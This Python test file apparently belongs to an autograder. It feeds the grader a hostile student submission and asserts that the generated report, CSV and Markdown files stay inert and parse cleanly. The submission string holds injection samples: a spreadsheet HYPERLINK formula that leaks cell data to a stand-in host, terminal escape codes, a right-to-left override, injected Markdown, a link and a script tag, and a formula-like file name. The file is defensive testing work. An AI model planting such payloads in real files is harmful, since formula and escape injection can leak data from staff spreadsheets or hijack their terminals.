"""Hostile text through a real grade: a submission whose name, exception messages and printed output are
crafted to crash the trusted side's writers or to come alive in staff's files (a spreadsheet formula, Markdown,
HTML, a link, terminal escapes, reversed text). The grade must finish, every file must parse, and nothing of
the submission's may be live in class.csv or feedback.md (aifund/untrusted.py is the rule).
"""
from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET

from tests.grader.test_bundle_and_shards import grade_cmd
from tests.meta.test_untrusted_text import formula_cells, outside_code, strict_json, utf8

SUBMISSION = '''\
import sys
LURE = '=HYPERLINK("http://x.example/?"&A1,"/reference")'
print("\\x1b[2J\\x1b]0;owned\\x07\\u202eevil\\udcff", LURE, "\\x00")
sys.stdout.flush()


def sigmoid(z):
    raise ValueError("bad \\ud800 value \\x00 \\u202e```\\n# injected\\n[click](http://evil.example) "
                     "<script>x</script>")


def relu(z):
    raise RuntimeError("=1+2")
'''


def test_a_submission_named_and_talking_like_an_attack_is_graded_and_stays_inert(tmp_path):
    subs = tmp_path / "submissions"
    subs.mkdir()
    (subs / "-2+3.py").write_text(SUBMISSION, encoding="utf-8")   # a spreadsheet reads the name -2+3 as =1
    out = tmp_path / "out"
    proc = grade_cmd(subs, "--out", out, "--spec-items", "act.sigmoid.values,act.relu.values", timeout=300)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    folder = out / "-2+3"
    report = strict_json(folder / "report.json")
    statuses = {i["id"]: i["status"] for i in report["items"]}
    assert statuses == {"act.sigmoid.values": "error", "act.relu.values": "error"}, report["items"]
    sigmoid = next(i for i in report["items"] if i["id"] == "act.sigmoid.values")["message"]
    assert "bad \\ud800 value \\x00 \\u202e```" in sigmoid, sigmoid          # shown, as visible escapes
    assert "\x1b" not in report["output"] and "\u202e" not in report["output"], ascii(report["output"][:300])
    results = strict_json(folder / "results.json")
    assert results["output_format"] == "text" and {t["output_format"] for t in results["tests"]} == {"text"}
    ET.fromstring((folder / "junit.xml").read_bytes())
    loose = outside_code(utf8(folder / "feedback.md"))
    assert not re.search(r"<|\]\(|://|^# injected", loose, re.M), loose
    assert formula_cells(out / "class.csv") == []
    with open(out / "class.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["submission"] for r in rows] == ["'-2+3"]
    json.dumps(report)       # and it is plain data
